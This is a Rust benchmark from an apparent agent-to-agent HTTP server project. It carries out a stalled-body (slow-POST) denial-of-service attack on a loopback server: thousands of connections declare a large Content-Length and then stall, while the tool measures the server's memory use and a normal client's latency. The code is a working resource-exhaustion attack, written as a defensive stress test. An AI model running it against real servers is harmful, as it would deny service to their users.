//! The stalled-body attack of LIM-7, against any HTTP/1.1 server on loopback: `--conns` connections each send a
//! request head declaring `Content-Length: --declared` bytes, `--sent` bytes of body, then stall; meanwhile a normal
//! client asks `GET --path` in a loop. Reported: the target's RSS idle, under attack (peak) and after the
//! connections close (`--settle` seconds later), and the normal client's latency under attack (p50 / p99).
//!
//! ```text
//! ulimit -n 20000
//! cargo build --release -p a2a-server --bin a2a-server && target/release/a2a-server --demo --listen 127.0.0.1:18080 &
//! cargo bench -p a2a-server --bench stall_attack -- --addr 127.0.0.1:18080 --pid $! --post /a2a/negotiate
//! ```
//!
//! Self-contained: it reads the target's RSS from `/proc/<pid>/status` and needs nothing but the target.

use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

struct Args {
    addr: String,
    pid: u32,
    conns: usize,
    declared: usize,
    sent: usize,
    path: String,
    post: String,
    hold: u64,
    settle: u64,
}

fn args() -> Args {
    let mut a = Args {
        addr: "127.0.0.1:18080".into(),
        pid: 0,
        conns: 3000,
        declared: 1024 * 1024,
        sent: 1024,
        path: "/a2a/capabilities".into(),
        post: "/a2a/negotiate".into(),
        hold: 10,
        settle: 10,
    };
    let mut it = std::env::args().skip(1);
    while let Some(k) = it.next() {
        let mut v = || it.next().unwrap_or_else(|| panic!("{k} needs a value"));
        match k.as_str() {
            "--addr" => a.addr = v(),
            "--pid" => a.pid = v().parse().expect("--pid"),
            "--conns" => a.conns = v().parse().expect("--conns"),
            "--declared" => a.declared = v().parse().expect("--declared"),
            "--sent" => a.sent = v().parse().expect("--sent"),
            "--path" => a.path = v(),
            "--post" => a.post = v(),
            "--hold" => a.hold = v().parse().expect("--hold"),
            "--settle" => a.settle = v().parse().expect("--settle"),
            "--bench" => {}
            other => panic!("unknown option {other}"),
        }
    }
    assert!(a.pid > 0, "--pid <the target's process id> is required");
    a
}

/// The target's resident set, in KiB.
fn rss_kib(pid: u32) -> u64 {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("the target's /proc status");
    s.lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .expect("VmRSS")
}

/// One GET on a new connection; its latency, or `None` when it got no `200`.
async fn probe(addr: &str, path: &str) -> Option<Duration> {
    let started = Instant::now();
    let mut s = tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(addr)).await.ok()?.ok()?;
    let req = format!("GET {path} HTTP/1.1\r\nHost: {addr}\r\nA2A-Version: 0.3\r\nConnection: close\r\n\r\n");
    s.write_all(req.as_bytes()).await.ok()?;
    let mut got = Vec::new();
    tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut got)).await.ok()?.ok()?;
    got.starts_with(b"HTTP/1.1 200").then(|| started.elapsed())
}

fn pct(sorted: &[Duration], p: f64) -> f64 {
    if sorted.is_empty() {
        return f64::NAN;
    }
    let i = ((sorted.len() as f64 - 1.0) * p).round() as usize;
    sorted[i].as_secs_f64() * 1000.0
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let a = args();
    let idle = rss_kib(a.pid);
    let head = format!(
        "POST {} HTTP/1.1\r\nHost: {}\r\nA2A-Version: 0.3\r\nA2A-Sender-ID: did:web:attacker.example\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        a.post, a.addr, a.declared
    );
    let mut body = b"{\"x\":\"".to_vec();
    body.resize(a.sent, b'a');
    let started = Instant::now();
    let mut conns = Vec::with_capacity(a.conns);
    let mut failed = 0;
    for _ in 0..a.conns {
        match TcpStream::connect(&a.addr).await {
            Ok(mut s) => {
                if s.write_all(head.as_bytes()).await.is_ok() && s.write_all(&body).await.is_ok() {
                    conns.push(s);
                } else {
                    failed += 1;
                }
            }
            Err(_) => failed += 1,
        }
    }
    let opened = started.elapsed();
    let mut peak = rss_kib(a.pid);
    let mut lat = Vec::new();
    let mut errors = 0;
    let until = Instant::now() + Duration::from_secs(a.hold);
    while Instant::now() < until {
        match probe(&a.addr, &a.path).await {
            Some(d) => lat.push(d),
            None => errors += 1,
        }
        peak = peak.max(rss_kib(a.pid));
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    // Connections the server closed meanwhile (a timeout, a refusal) are counted as such.
    let mut still_open = 0;
    for s in &conns {
        let mut b = [0u8; 1];
        if matches!(s.try_read(&mut b), Err(ref e) if e.kind() == std::io::ErrorKind::WouldBlock) {
            still_open += 1;
        }
    }
    drop(conns);
    tokio::time::sleep(Duration::from_secs(a.settle)).await;
    let after = rss_kib(a.pid);
    lat.sort();
    println!(
        "conns {} (failed to open {failed}, still open at the end {still_open}) in {:.1} s; declared {} B, sent {} B each",
        a.conns,
        opened.as_secs_f64(),
        a.declared,
        a.sent
    );
    println!(
        "RSS idle {:.1} MB, peak under attack {:.1} MB, {} s after close {:.1} MB ({:+.0} % of idle)",
        idle as f64 / 1024.0,
        peak as f64 / 1024.0,
        a.settle,
        after as f64 / 1024.0,
        (after as f64 / idle as f64 - 1.0) * 100.0
    );
    println!(
        "normal client under attack: {} GETs ok, {errors} failed, p50 {:.2} ms, p99 {:.2} ms",
        lat.len(),
        pct(&lat, 0.5),
        pct(&lat, 0.99)
    );
}
